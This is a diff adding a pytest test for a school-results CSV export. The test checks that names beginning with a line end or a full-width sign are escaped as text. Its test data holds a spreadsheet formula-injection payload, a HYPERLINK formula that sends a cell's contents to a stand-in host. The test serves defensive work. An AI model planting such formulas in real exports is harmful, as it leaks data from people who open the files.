@@ -514,6 +514,17 @@ def test_results_page_query_count_does_not_grow_with_history(client, surrey, dja
         client.get(reverse("evidence:school-results", args=[143373]))
 
 
+@pytest.mark.parametrize("start", ["\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_a_csv_download_keeps_a_name_after_a_line_end_or_a_full_width_sign_as_text(client, surrey, start):
+    """A formula after a line end, or begun with a full-width sign (＝, ＋, －, ＠), runs in some spreadsheet programs and
+    languages as one begun with = does: the CSV keeps such a name as text, with the apostrophe before it."""
+    formula = start + 'HYPERLINK("https://example.org/?"&A3,"Open")'
+    School.objects.filter(urn=143373).update(name=formula)
+    sign_in(client, surrey)
+    text = client.get(reverse("evidence:authority-results-csv", args=[936])).content.decode("utf-8-sig")
+    assert {row["School"] for row in csv.DictReader(io.StringIO(text)) if row["URN"] == "143373"} == {"'" + formula}
+
+
 def test_downloads_keep_a_name_that_looks_like_a_formula_as_text(client, surrey):
     """School and file names come from imported files: opened in a spreadsheet, they must not run."""
     formula = '=HYPERLINK("https://example.org/?"&A3,"Open")'
